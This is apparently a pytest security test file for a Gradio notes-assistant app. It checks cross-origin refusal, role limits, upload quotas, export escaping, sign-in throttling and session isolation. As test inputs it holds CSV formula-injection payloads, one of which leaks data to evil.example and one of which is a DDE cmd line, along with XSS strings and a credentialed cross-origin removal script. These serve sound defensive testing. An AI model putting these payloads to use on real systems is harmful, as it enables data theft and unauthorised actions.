"""The app shared on an office network, attacked as issue 14's probes did: each attack is refused or
neutralised, and the legitimate path beside it still works.

The apps run in-process on loopback with sign-in (readers and editors from an auth file), the hashing
embedder and the extractive generator. A browser's part in an attack (the Origin and Sec-Fetch-Site
headers it adds, which page scripts cannot change) is mostly played by setting those headers; one test
makes the cross-port attack in Chromium itself.
"""

import csv
import http.server
import json
import logging
import signal
import subprocess
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import docx
import httpx
import pytest
from gradio_client import Client, handle_file
from markdown_it import MarkdownIt

from assistant import auth
from assistant.app import AssistantBlocks, answer_to_markdown
from assistant.auth import Access, Role, SignInThrottle, User, hash_password, password_matches, write_auth_file
from assistant.briefing_files import to_markdown, write_briefing
from assistant.errors import DocumentError
from assistant.exports import csv_cell, markdown_text
from assistant.library import Library
from assistant.settings import Settings
from assistant.store import ChunkStore, open_store
from assistant.wiring import assistant_for
from ingest.pipeline import ingest_paths
from tests.conftest import (
    CHROMIUM,
    CHROMIUM_ARGS,
    HashingEmbeddings,
    assistant_command,
    child_env,
    fake_core,
    free_port,
    language,
    running_app,
    wait_for,
)
from tests.test_app import downloaded, last_message, plain

PASSWORDS = {"ann": "ann reads the notes", "ed": "ed edits the library", "mallory": "mallory uploads things"}
ROLES: dict[str, Role] = {"ann": "reader", "ed": "editor", "mallory": "editor"}
SEED = "000_8499c543783cf847.txt"

HARBOUR_NOTES = """Harbour Network Meeting

Date: 4th June 2025, Oban

Organisation\t=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")
Contact\t=cmd|' /C calc'!A0
Summary of Presentation\tKelpie Mentoring pairs care-experienced teenagers with volunteer sailors for weekly sessions.
Key learning\tWeekly sailing sessions with volunteer mentors build confidence and trust for teenagers leaving care.

Organisation\t@SUM(1+1)
Contact\t-2+3 or call 01234 567890
Summary of Presentation\tHarbour Kitchens teaches teenagers leaving care to cook with volunteer chefs every week.
Key learning\tCooking together with volunteer chefs builds confidence and trust for teenagers leaving care.
"""

HOSTILE_NOTES = """Lighthouse Showcase

Date: 2nd May 2025, Wick

Organisation\tLighthouse Trust
Summary of Presentation\tThe Lighthouse Befriending scheme <img src=x onerror="alert(1)"> matches young people \
in care with trained befrienders [for details](javascript:alert(1)) ![pixel](http://t.example/p.png) each fortnight.
Key learning\tBefrienders from the Lighthouse Befriending scheme stay for at least two years, which young people value.
"""


@contextmanager
def serving(store: Path, **overrides: Any) -> Iterator[tuple[str, Library, AssistantBlocks]]:
    """The app on loopback with the users above, over a fresh store of the seeds."""
    users = store.parent / f"{store.name}-users"
    write_auth_file(users, [User(name, ROLES[name], hash_password(password)) for name, password in PASSWORDS.items()])
    answerer, library, settings = fake_core(store, auth_file=users, **overrides)
    with running_app(answerer, library, settings) as (url, demo):
        yield url, library, demo


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Library, AssistantBlocks]]:
    with serving(tmp_path_factory.mktemp("secure") / "store") as served:
        yield served


def signed_in(base: str, name: str) -> httpx.Client:
    """A browser-like session: the cookie Gradio sets at sign-in, kept for later requests."""
    session = httpx.Client(base_url=base, timeout=30)
    response = session.post("/login", data={"username": name, "password": PASSWORDS[name]})
    assert response.status_code == 200, response.text
    return session


def client_for(base: str, name: str) -> Client:
    return Client(f"{base}/", auth=(name, PASSWORDS[name]), verbose=False)


def call(session: httpx.Client, api: str, data: list[Any], **headers: str) -> httpx.Response:
    return session.post(f"/gradio_api/call/{api}", json={"data": data}, headers=headers)


def result(session: httpx.Client, api: str, event_id: str) -> list[Any]:
    """The outputs of a job started through /gradio_api/call, once it completes."""
    with session.stream("GET", f"/gradio_api/call/{api}/{event_id}", timeout=60) as stream:
        event = ""
        for line in stream.iter_lines():
            if line.startswith("event:"):
                event = line.split(":", 1)[1].strip()
            elif line.startswith("data:") and event in {"complete", "error"}:
                assert event == "complete", line
                return list(json.loads(line[len("data:") :]))
    raise AssertionError(f"{api} never completed")


def sources(library: Library) -> set[str]:
    return {entry.source for entry in library.documents()}


@contextmanager
def uploaded(base: str, path: Path, text: str, by: str = "ed") -> Iterator[None]:
    """``text`` uploaded in the app under ``path``'s name by the editor ``by``; removed again after."""
    path.write_text(text, encoding="utf-8")
    status, *_ = client_for(base, by).predict([handle_file(str(path))], api_name="/upload")
    try:
        assert status.startswith("Done:"), status
        yield
    finally:
        client_for(base, "ed").predict(path.name, False, api_name="/remove")  # an upload: no notes-folder box


# --- another page on this machine, with the user's cookie ----------------------------------------


def test_a_page_on_another_loopback_port_cannot_use_the_api_with_the_users_cookie(
    app: tuple[str, Library, AssistantBlocks],
) -> None:
    base, library, _ = app
    editor = signed_in(base, "ed")
    evil = {"Origin": "http://127.0.0.1:8899"}
    assert editor.get("/gradio_api/info", headers=evil).status_code == 403  # reading the API description
    assert call(editor, "remove", [SEED, True], **evil).status_code == 403  # the fetch the probe made
    form = editor.post(f"{base}/gradio_api/call/remove", data={"data": SEED}, headers=evil)  # a form, no preflight
    assert form.status_code == 403
    no_origin = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"}  # <script src> / <img src>
    assert editor.get("/gradio_api/info", headers=no_origin).status_code == 403
    assert editor.get("/config", headers={"Origin": "null"}).status_code == 403  # a sandboxed frame or file://
    assert SEED in sources(library)
    page = editor.get("/")  # nor show the app in a frame under its own page and steer the user's clicks
    assert page.headers["x-frame-options"] == "SAMEORIGIN"
    assert page.headers["content-security-policy"] == "frame-ancestors 'self'"
    # The app's own page, and clients that are not browsers, still get through.
    own = {"Origin": base, "Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
    started = call(editor, "chat", ["What is Wee Breathers?", [], "All", "All"], **own)
    assert started.status_code == 200
    conversation, *_ = result(editor, "chat", started.json()["event_id"])
    assert "Wee Breathers" in last_message(conversation)
    assert editor.get("/config").status_code == 200
    link = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}  # following a link to the app
    assert editor.get("/", headers=link).status_code == 200


def test_a_dns_name_pointed_at_loopback_cannot_reach_the_app(app: tuple[str, Library, AssistantBlocks]) -> None:
    base, _, _ = app
    port = base.rsplit(":", 1)[1]
    rebound = {"Host": f"attacker.example:{port}", "Origin": f"http://attacker.example:{port}"}
    assert httpx.get(f"{base}/", headers=rebound).status_code == 403
    assert httpx.get(f"{base}/", headers={"Host": f"localhost:{port}"}).status_code == 200


@pytest.mark.slow  # drives a browser
def _sign_in_in_chromium(page: Any, base: str, name: str) -> None:
    """Sign ``name`` in on the app's own page, as a user does, and wait for the app."""
    page.goto(f"{base}/")
    page.get_by_label("username").fill(name)
    page.get_by_label("password").fill(PASSWORDS[name])
    page.get_by_role("button", name="Login").click()
    page.get_by_role("heading", name="Promise Assistant").wait_for(timeout=30_000)


def test_in_chromium_a_page_on_another_port_cannot_remove_a_document_as_the_signed_in_user(
    app: tuple[str, Library, AssistantBlocks],
) -> None:
    """The probe itself, in a real browser: the user signs in to the app, then opens a page served from
    another loopback port whose script calls the API with ``credentials: 'include'``."""
    if not Path(CHROMIUM).exists():
        pytest.skip("Chromium is not installed (Debian: apt-get install chromium)")
    from playwright.sync_api import sync_playwright

    base, library, _ = app
    with _another_page_server() as evil, sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            context = chromium.new_context()
            page = context.new_page()
            _sign_in_in_chromium(page, base, "ed")
            assert page.evaluate(_FETCH_INFO, base) == 200  # the app's own page: the cookie works
            page.goto(evil)
            assert page.evaluate(_FETCH_INFO, base) == "refused"
            assert page.evaluate(_REMOVE, [base, SEED]) == "refused"
        finally:
            chromium.close()
    assert SEED in sources(library)


# What a hostile page's script does with the user's cookie: read the API description; start a removal
# and, as an attacker would, wait for it to finish. "refused" when the browser or the app says no.
_FETCH_INFO = """async (app) => {
  try { const response = await fetch(app + "/gradio_api/info", {credentials: "include"});
        return response.ok ? 200 : "refused"; } catch (error) { return "refused"; }
}"""
_REMOVE = """async ([app, name]) => {
  try {
    const started = await fetch(app + "/gradio_api/call/remove", {method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json"}, body: JSON.stringify({data: [name, true]})});
    if (!started.ok) return "refused";
    const {event_id} = await started.json();
    return await (await fetch(app + "/gradio_api/call/remove/" + event_id, {credentials: "include"})).text();
  } catch (error) { return "refused"; }
}"""


@contextmanager
def _another_page_server() -> Iterator[str]:
    """An empty page served from a free loopback port, as any other program on the machine might."""

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = b"<!doctype html><title>Another app</title><p>Nothing to see here.</p>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:  # keeps the test output quiet
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


# --- the page before sign-in ----------------------------------------------------------------------


def test_the_page_before_sign_in_names_no_documents_or_events(app: tuple[str, Library, AssistantBlocks]) -> None:
    base, library, _ = app
    page = httpx.get(f"{base}/")
    assert page.status_code == 200 and "sign in" in page.text
    assert not [name for name in sources(library) if name in page.text]
    assert not [event for event in library.events() if event in page.text]
    assert httpx.get(f"{base}/gradio_api/info").status_code == 401
    # Signed in, the description lists no endpoint (the UI does not use it); clients still call by name.
    assert signed_in(base, "ann").get("/gradio_api/info").json()["named_endpoints"] == {}
    conversation, *_ = client_for(base, "ann").predict("What is Wee Breathers?", [], "All", "All", api_name="/chat")
    assert "Wee Breathers" in last_message(conversation)


# --- roles and provenance --------------------------------------------------------------------------


def test_a_reader_cannot_upload_or_remove_through_the_api(
    app: tuple[str, Library, AssistantBlocks], tmp_path: Path
) -> None:
    base, library, _ = app
    before = {entry.source: entry.chunk_ids for entry in library.documents()}
    notes = tmp_path / "takeover.txt"
    notes.write_text("Wee Breathers is HACKED. " * 40, encoding="utf-8")
    reader = client_for(base, "ann")
    with pytest.raises(httpx.HTTPStatusError, match="403"):  # Gradio's upload route itself refuses a reader
        reader.predict([handle_file(str(notes))], api_name="/upload")
    status, *_ = reader.predict(SEED, True, api_name="/remove")  # even with the notes-folder box ticked
    assert status.startswith("Warning:") and "Only editors" in status
    assert {entry.source: entry.chunk_ids for entry in library.documents()} == before
    assert not (library.settings.upload_dir / "takeover.txt").exists()
    # The page starts with the library's controls hidden; only an editor's page load shows them.
    config = signed_in(base, "ann").get("/config").json()
    tools = next(part for part in config["components"] if part["props"].get("elem_id") == "editor-tools")
    assert tools["props"]["visible"] is False


# --- uploads and the disk ---------------------------------------------------------------------------


def posted(session: httpx.Client, size: int, name: str = "notes.txt") -> httpx.Response:
    """``size`` bytes sent to Gradio's own upload route, as the page's drop zone sends a file."""
    return session.post("/gradio_api/upload", files={"files": (name, b"Notes about kinship care. " * (size // 26))})


def gradio_cache_files(demo: AssistantBlocks) -> set[Path]:
    return {path for path in Path(demo.server_app.uploaded_file_dir).rglob("*") if path.is_file()}  # type: ignore[union-attr]


def test_a_reader_cannot_send_files_to_any_upload_route(app: tuple[str, Library, AssistantBlocks]) -> None:
    base, _, demo = app
    reader = signed_in(base, "ann")
    before = gradio_cache_files(demo)
    for _ in range(5):  # the probe: five 19 MB POSTs as a reader were all 200
        refused = posted(reader, 20 * 1024 * 1024)
        assert refused.status_code == 403 and "Only editors can send files" in refused.json()["detail"]
    # The upload event given a file by URL, which Gradio would fetch into its cache before the event runs.
    by_url = {
        "path": "http://files.example/huge.pdf",
        "url": "http://files.example/huge.pdf",
        "meta": {"_type": "gradio.FileData"},
    }
    assert call(reader, "upload", [[by_url]]).status_code == 403
    upload = next(index for index, fn in demo.fns.items() if fn.api_name == "upload")
    joined = reader.post(
        "/gradio_api/queue/join", json={"data": [[by_url]], "fn_index": upload, "session_hash": "ann-up"}
    )
    assert joined.status_code == 403
    assert gradio_cache_files(demo) == before
    editor = signed_in(base, "ed")
    sent = posted(editor, 1024 * 1024)
    assert sent.status_code == 200 and all(Path(path).is_file() for path in sent.json())


def test_each_users_uploads_are_capped_within_a_window_and_swept_within_seconds(tmp_path: Path) -> None:
    quota = {"upload_quota_bytes": 3 * 1024 * 1024, "upload_quota_seconds": 3600.0, "upload_cache_seconds": 1.0,
             "upload_sweep_seconds": 0.2}  # fmt: skip
    with serving(tmp_path / "store", **quota) as (base, _, _):
        ed, mallory = signed_in(base, "ed"), signed_in(base, "mallory")
        first, second = posted(ed, 1024 * 1024), posted(ed, 1024 * 1024)
        assert first.status_code == second.status_code == 200
        capped = posted(ed, 1024 * 1024 + 1)
        assert capped.status_code == 429 and "try again in 60 minutes" in capped.json()["detail"]
        assert int(capped.headers["Retry-After"]) > 3500
        assert posted(mallory, 1024 * 1024).status_code == 200  # each user has a quota of their own
        saved = [Path(path) for response in (first, second) for path in response.json()]
        assert all(path.is_file() for path in saved)
        wait_for(lambda: not any(path.exists() for path in saved), "the uploads to be swept", timeout=10)


def test_a_nearly_full_disk_refuses_uploads_before_anything_is_written(tmp_path: Path) -> None:
    with serving(tmp_path / "store", min_free_disk_bytes=2**62) as (base, library, demo):
        before, uploads = gradio_cache_files(demo), set(library.settings.upload_dir.glob("*"))
        refused = posted(signed_in(base, "ed"), 1024 * 1024)
        assert refused.status_code == 507
        assert refused.json()["detail"].startswith("The server's disk is nearly full (")
        assert refused.json()["detail"].endswith("so nothing was written; ask whoever runs this app to make room.")
        with pytest.raises(DocumentError, match="disk is nearly full"):  # the library's own write, too
            library.upload("harbour.txt", HARBOUR_NOTES.encode(), uploaded_by="ed")
        assert gradio_cache_files(demo) == before and set(library.settings.upload_dir.glob("*")) == uploads
        assert "harbour.txt" not in sources(library)


def test_an_editors_upload_is_marked_with_who_uploaded_it_wherever_it_is_cited(
    app: tuple[str, Library, AssistantBlocks], tmp_path: Path
) -> None:
    base, library, _ = app
    notes = tmp_path / "wee-breathers-update.txt"
    takeover = (
        "Wee Breathers Update\n\nDate: 1st June 2025\n\n"
        + "Wee Breathers is HACKED and every session is cancelled, say the updated notes. " * 5
    )
    reader = client_for(base, "ann")
    _, cards, *_ = reader.predict("What is Wee Breathers?", [], "All", "All", api_name="/chat")
    assert "Scottish Attachment in Action" in cards and "uploaded by" not in cards  # the notes are unmarked
    with uploaded(base, notes, takeover, by="mallory"):
        reader.reset_session()
        conversation, cards, *_ = reader.predict("Is Wee Breathers HACKED?", [], "All", "All", api_name="/chat")
        answer = plain(last_message(conversation))
        assert "HACKED" in answer and "Wee Breathers Update, 1 June 2025 · uploaded by mallory, 20" in answer
        assert 'class="uploaded">uploaded by mallory, 20' in cards
        entry = next(entry for entry in library.documents() if entry.source == notes.name)
        upload = library.last_upload(entry)
        assert upload is not None and upload.by == "mallory"
    assert notes.name not in sources(library)


def test_provenance_survives_a_rebuild_and_names_the_uploader_of_each_passage(tmp_path: Path) -> None:
    _, library, settings = fake_core(tmp_path / "store")
    library.upload("harbour.txt", HARBOUR_NOTES.encode(), uploaded_by="ann")
    library.upload("harbour.txt", HARBOUR_NOTES.replace("to cook", "to bake").encode(), uploaded_by="ed")

    def uploaders(store: ChunkStore) -> dict[str, str | None]:
        return {p.body: p.metadata.uploaded_by for p in store.live_passages() if p.metadata.source == "harbour.txt"}

    before = uploaders(library.store)
    assert set(before.values()) == {"ann", "ed"}  # the changed passage names ed; the unchanged one keeps ann
    rebuilt = open_store(
        settings, HashingEmbeddings(), language(), rebuild=True
    )  # as 'ingest --rebuild': an empty store
    assert not rebuilt.live_passages()
    ingest_paths(rebuilt, [settings.seeds_dir, settings.upload_dir], settings, progress=False)
    assert uploaders(rebuilt) == before
    seeds = [p for p in rebuilt.live_passages() if p.metadata.source == SEED]
    assert seeds and all(p.metadata.uploaded_by is None for p in seeds)


# --- CSV, Markdown and Word exports ----------------------------------------------------------------


def test_the_finder_csv_never_hands_a_spreadsheet_a_formula(
    app: tuple[str, Library, AssistantBlocks], tmp_path: Path
) -> None:
    base, _, _ = app
    with uploaded(base, tmp_path / "harbour.txt", HARBOUR_NOTES):
        reader = client_for(base, "ann")
        _, csv_file, _ = reader.predict(
            "volunteer mentors build confidence for teenagers leaving care", api_name="/find_projects"
        )
        with downloaded(csv_file).open(encoding="utf-8") as stream:
            rows = list(csv.DictReader(stream))
        harbour = [row for row in rows if row["Source"] == "harbour.txt"]
        assert {row["Organisation"] for row in harbour} == {
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
            "'@SUM(1+1)",
        }
        assert {row["Contact"] for row in harbour} == {"'=cmd|' /C calc'!A0", "'-2+3 or call 01234 567890"}
        assert all(row["From"].startswith("uploaded by ed, 20") for row in harbour)
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
        _, csv_file, _ = reader.predict("young people into work", api_name="/find_projects")
        with downloaded(csv_file).open(encoding="utf-8") as stream:
            notes_rows = [row for row in csv.DictReader(stream) if row["Source"] != "harbour.txt"]
        assert notes_rows and all(row["From"] == "notes folder" for row in notes_rows)
        assert all(not row["Organisation"].startswith("'") for row in notes_rows)  # ordinary cells are untouched


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("The Promise Scotland", "The Promise Scotland"),
        ("kinship@westlothian.gov.uk", "kinship@westlothian.gov.uk"),
    ],
)
def test_csv_cells_that_start_a_formula_are_neutralised(cell: str, shown: str) -> None:
    assert csv_cell(cell) == shown


def test_markdown_and_word_exports_carry_document_text_as_text(
    app: tuple[str, Library, AssistantBlocks], tmp_path: Path
) -> None:
    base, _, _ = app
    with uploaded(base, tmp_path / "lighthouse.txt", HOSTILE_NOTES):
        reader = client_for(base, "ann")
        *_, download = reader.predict("What is the Lighthouse Befriending scheme?", [], "All", "All", api_name="/chat")
        markdown = downloaded(download).read_text(encoding="utf-8")
        assert "Lighthouse Befriending" in markdown and "uploaded by ed" in markdown
        rendered = MarkdownIt("commonmark").render(markdown)
        assert "&lt;img src=x" in rendered and "<img" not in rendered and "<a " not in rendered


@pytest.mark.parametrize(
    "text",
    [
        '<script>alert(1)</script> and <img src=x onerror="alert(1)">',
        "[Click here](javascript:alert(1)) and ![tracker](http://tracker.example/p.png)",
        "<http://evil.example> and [ref]\n[ref]: javascript:alert(1)",
        "# Not a heading\n> not a quote\n- not a list\n1. not numbered",
    ],
)
def test_markdown_text_renders_as_the_same_text(text: str) -> None:
    rendered = MarkdownIt("commonmark").render(markdown_text(text))
    assert not any(tag in rendered for tag in ("<script", "<img", "<a ", "<h1", "<blockquote", "<ul", "<ol"))


def test_word_and_markdown_briefings_survive_control_characters_and_markup(tmp_path: Path) -> None:
    answerer, _, _ = fake_core(tmp_path / "store")
    briefing = assistant_for(answerer).briefer.brief("young people into work")
    assert briefing.answered
    hostile = briefing.__class__(
        briefing.topic + " \x0b<b>bold</b>", "<script>x</script> headline", [p + " \x00<i>" for p in briefing.points],
        briefing.citations, briefing.generator,
    )  # fmt: skip
    word = write_briefing(hostile, tmp_path / "b.docx")
    text = "\n".join(paragraph.text for paragraph in docx.Document(str(word)).paragraphs)
    assert "<script>x</script> headline" in text  # Word shows the markup as the characters it is
    rendered = MarkdownIt("commonmark").render(to_markdown(hostile))
    assert "<script" not in rendered and "<b>" not in rendered and "&lt;script&gt;" in rendered


def test_an_answer_download_writes_the_question_as_text(tmp_path: Path) -> None:
    answerer, _, _ = fake_core(tmp_path / "store")
    answer = answerer.answer("What is Wee Breathers? <img src=x onerror=alert(1)>")
    rendered = MarkdownIt("commonmark").render(answer_to_markdown(answer))
    assert "<img" not in rendered and "&lt;img" in rendered


# --- sign-in throttling -----------------------------------------------------------------------------


def throttled_settings(**overrides: Any) -> dict[str, Any]:
    return {
        "signin_free_failures": 3, "signin_first_delay": 2.0, "signin_lockout_failures": 6,
        "signin_lockout_seconds": 3.0,
    } | overrides  # fmt: skip


def sign_in(base: str, name: str, password: str) -> httpx.Response:
    return httpx.post(f"{base}/login", data={"username": name, "password": password}, timeout=30)


@pytest.fixture
def signin_clock(monkeypatch: pytest.MonkeyPatch) -> list[float]:
    """The apps' sign-in throttles read this clock (seconds, ``[0]``), which only the test moves: how many
    guesses are refused must not depend on how many the machine sends before a delay runs out."""
    now = [0.0]
    real_init = SignInThrottle.__init__

    def init(self: SignInThrottle, settings: Settings, clock: Any = None) -> None:
        real_init(self, settings, clock=lambda: now[0])

    monkeypatch.setattr(SignInThrottle, "__init__", init)
    return now


def test_twenty_wrong_passwords_lock_the_user_out_then_the_right_one_works_again(
    tmp_path: Path, caplog: pytest.LogCaptureFixture, signin_clock: list[float]
) -> None:
    caplog.set_level(logging.WARNING)
    settings = throttled_settings(signin_lockout_seconds=60.0)  # longer than the delays before it
    with serving(tmp_path / "store", **settings) as (base, _, _):
        statuses = [sign_in(base, "ann", f"guess number {n}").status_code for n in range(17)]
        assert statuses == [400] * 3 + [429] * 14  # typos are free; then a guess must wait, or is refused
        for delay in (2, 4, 8):  # a patient guesser waits as told, until the sixth failure locks the name
            refused = sign_in(base, "ann", f"patient guess {delay}")
            assert refused.status_code == 429 and "try again in" in refused.json()["detail"]
            assert int(refused.headers["Retry-After"]) == delay  # each wait twice the last
            signin_clock[0] += delay
            assert sign_in(base, "ann", f"patient guess {delay}").status_code == 400
        locked = sign_in(base, "ann", PASSWORDS["ann"])
        assert locked.status_code == 429 and int(locked.headers["Retry-After"]) == settings["signin_lockout_seconds"]
        signin_clock[0] += settings["signin_lockout_seconds"] - 0.1
        assert sign_in(base, "ann", PASSWORDS["ann"]).status_code == 429  # not yet
        signin_clock[0] += 0.1  # the lockout window passes with no further failure
        assert sign_in(base, "ann", PASSWORDS["ann"]).status_code == 200
    failures = [record.getMessage() for record in caplog.records if "Failed sign-in" in record.getMessage()]
    assert failures and all("'ann' from 127.0.0.1" in message for message in failures)
    assert not [record for record in caplog.records if "guess" in record.getMessage()]  # never a password


def test_twenty_simultaneous_wrong_passwords_get_three_tries(tmp_path: Path, signin_clock: list[float]) -> None:
    with serving(tmp_path / "store", **throttled_settings()) as (base, _, _):
        with ThreadPoolExecutor(max_workers=20) as pool:
            statuses = list(pool.map(lambda n: sign_in(base, "ed", f"burst {n}").status_code, range(20)))
        assert statuses.count(400) == 3 and statuses.count(429) == 17
        assert sign_in(base, "ed", PASSWORDS["ed"]).status_code == 429


def test_twenty_simultaneous_right_passwords_from_one_address_all_get_in(
    tmp_path: Path, signin_clock: list[float]
) -> None:
    """An office behind one NAT or proxy address at the start of the day; then a guesser from the same
    address: the guesses are throttled, the colleagues still get in, the guessed name stays locked."""
    names = list(PASSWORDS)
    with serving(tmp_path / "store", **throttled_settings()) as (base, _, _):
        with ThreadPoolExecutor(max_workers=20) as pool:
            right = list(pool.map(lambda n: sign_in(base, names[n % 3], PASSWORDS[names[n % 3]]).status_code,
                                  range(20)))  # fmt: skip
            assert right == [200] * 20
            wrong = list(pool.map(lambda n: sign_in(base, "ed", f"burst {n}").status_code, range(20)))
        assert wrong.count(400) == 3 and wrong.count(429) == 17
        assert sign_in(base, "ann", PASSWORDS["ann"]).status_code == 200  # the address is throttled, not her
        assert sign_in(base, "mallory", "a guess at another name").status_code == 429  # guesses from it are
        assert sign_in(base, "mallory", PASSWORDS["mallory"]).status_code == 200
        assert sign_in(base, "ed", PASSWORDS["ed"]).status_code == 429  # the guessed name stays locked


def test_throttle_grows_the_delay_then_locks_and_forgets_after_a_quiet_window() -> None:
    now = [0.0]
    throttle = SignInThrottle(Settings(**throttled_settings(signin_first_delay=1.0, signin_lockout_seconds=60.0)),
                              clock=lambda: now[0])  # fmt: skip

    def guess() -> float:
        """One wrong password, sent as soon as the throttle allows: how long the guesser had to wait."""
        wait = throttle.judge("ann", "10.0.0.5", correct=False)
        if wait:
            now[0] += wait
            assert throttle.judge("ann", "10.0.0.5", correct=False) == 0.0
        return wait

    assert [guess() for _ in range(6)] == [0.0, 0.0, 0.0, 1.0, 2.0, 4.0]
    assert throttle.judge("ann", "10.0.0.5", correct=True) == pytest.approx(60.0)  # locked out, right or not
    assert throttle.user_wait("ann") == pytest.approx(60.0)
    assert throttle.judge("bob", "10.0.0.5", correct=False) > 0  # the same address guessing another name
    assert throttle.judge("carol", "10.0.0.5", correct=True) == 0.0  # ... but a right password gets in
    assert throttle.judge("ann", "10.0.0.9", correct=False) > 0  # the same name from another address
    assert throttle.judge("carol", "10.0.0.9", correct=False) == 0.0
    now[0] += 60.0
    assert throttle.judge("ann", "10.0.0.5", correct=False) == 0.0  # a quarter of an hour of quiet forgives
    assert throttle.judge("ann", "10.0.0.5", correct=True) == 0.0
    assert throttle.recent_failures("ann") == 0


def test_spraying_many_names_from_one_address_is_throttled_too() -> None:
    throttle = SignInThrottle(Settings(**throttled_settings()), clock=lambda: 0.0)
    waits = [throttle.judge(f"user{n}", "10.0.0.7", correct=False) for n in range(10)]
    assert waits[:3] == [0.0, 0.0, 0.0] and all(wait > 0 for wait in waits[3:])


def test_a_success_does_not_clear_the_addresss_other_failures() -> None:
    throttle = SignInThrottle(Settings(**throttled_settings()), clock=lambda: 0.0)
    for name in ("victim1", "victim2"):
        throttle.judge(name, "10.0.0.8", correct=False)
    throttle.judge("insider", "10.0.0.8", correct=True)  # an attacker's own account signs in between guesses
    throttle.judge("victim3", "10.0.0.8", correct=False)
    assert throttle.judge("victim4", "10.0.0.8", correct=False) > 0


def test_passwords_are_stored_as_salted_hashes(tmp_path: Path) -> None:
    users = tmp_path / "users"
    write_auth_file(users, [User("ann", "reader", hash_password("same password")),
                            User("bob", "editor", hash_password("same password"))])  # fmt: skip
    text = users.read_text(encoding="utf-8")
    assert "same password" not in text and (users.stat().st_mode & 0o077) == 0
    hashes = [line.split(":", 2)[2] for line in text.splitlines() if not line.startswith("#")]
    assert len(set(hashes)) == 2  # salted: the same password hashes differently
    assert password_matches("same password", hashes[0]) and not password_matches("same passwore", hashes[0])
    access = Access.from_settings(Settings(auth_file=users))
    assert access.check("ann", "same password") and not access.check("ann", "wrong") and not access.check("zed", "x")
    assert access.role("ann") == "reader" and access.may_edit("bob") and not access.may_edit("ann")
    assert not access.may_edit(None) and Access({}).may_edit(None)  # on loopback with no users: one local editor


def test_an_unknown_name_costs_the_same_hashing_as_a_known_one(monkeypatch: pytest.MonkeyPatch) -> None:
    """So the time a wrong sign-in takes does not tell a guesser which names exist."""
    hashed: list[str] = []
    real = auth.password_matches

    def counted(password: str, password_hash: str) -> bool:
        hashed.append(password_hash)
        return real(password, password_hash)

    monkeypatch.setattr(auth, "password_matches", counted)
    access = Access({"ann": User("ann", "reader", hash_password("the right password"))})
    assert not access.check("nobody", "a guess") and not access.check("ann", "a guess")
    assert len(hashed) == 2 and hashed[0].split("$")[:4] == hashed[1].split("$")[:4]  # the same scrypt cost


@pytest.mark.slow  # starts processes
def test_the_users_command_adds_a_user_whose_password_never_reaches_the_file(tmp_path: Path) -> None:
    users = tmp_path / "users"
    env = child_env(auth_file=users, cache_dir=tmp_path / "cache")

    def run(*args: str, password: str = "") -> subprocess.CompletedProcess[str]:
        return subprocess.run(assistant_command("users", *args), input=password,
                              capture_output=True, text=True, timeout=60, env=env)  # fmt: skip

    assert run("add", "ann", "--role", "reader", password="a long password\n").returncode == 0
    assert run("add", "ed", "--role", "editor", password="another long one\n").returncode == 0
    short = run("add", "bob", "--role", "editor", password="short\n")
    assert short.returncode == 2 and "at least 8" in short.stderr and "Traceback" not in short.stderr
    assert run("list").stdout.split() == ["ann", "reader", "ed", "editor"]
    assert "a long password" not in users.read_text(encoding="utf-8")
    access = Access.from_settings(Settings(auth_file=users))
    assert access.check("ann", "a long password") and access.role("ed") == "editor"


# --- sessions -----------------------------------------------------------------------------------------


def queued_answer(session: httpx.Client, demo: AssistantBlocks, session_hash: str, question: str) -> httpx.Response:
    """The chat asked through Gradio's queue in the session ``session_hash``, as the page asks it."""
    chat = next(index for index, fn in demo.fns.items() if fn.api_name == "chat")
    data = [question, [], [], "All", "All", [], "", {}]
    body = {"data": data, "fn_index": chat, "session_hash": session_hash, "event_data": None}
    return session.post("/gradio_api/queue/join", json=body)


def session_messages(session: httpx.Client, session_hash: str) -> str:
    """The session's queue stream until its job completes."""
    with session.stream("GET", "/gradio_api/queue/data", params={"session_hash": session_hash}, timeout=60) as stream:
        lines = []
        for line in stream.iter_lines():
            lines.append(line)
            if "process_completed" in line:
                break
    return "\n".join(lines)


def test_a_session_hash_used_by_another_signed_in_user_is_refused(app: tuple[str, Library, AssistantBlocks]) -> None:
    base, _, demo = app
    ann, ed = signed_in(base, "ann"), signed_in(base, "ed")
    hers = "ann-session-0001"
    assert queued_answer(ann, demo, hers, "What is Wee Breathers?").status_code == 200
    assert "Wee Breathers" in session_messages(ann, hers)
    link = ann.get("/gradio_api/deep_link", params={"session_hash": hers})
    assert link.status_code == 200 and link.json()  # her own session: a link to her chat
    assert "Wee Breathers" in ann.get("/config", params={"deep_link": link.json()}).text

    # The probe: her session hash, read from a proxy's log, used by another signed-in user.
    assert ed.get("/gradio_api/deep_link", params={"session_hash": hers}).status_code == 403
    assert ed.get("/config", params={"deep_link": link.json()}).status_code == 403
    assert ed.get("/", params={"deep_link": link.json()}).status_code == 403
    assert queued_answer(ed, demo, hers, "And who created it?").status_code == 403
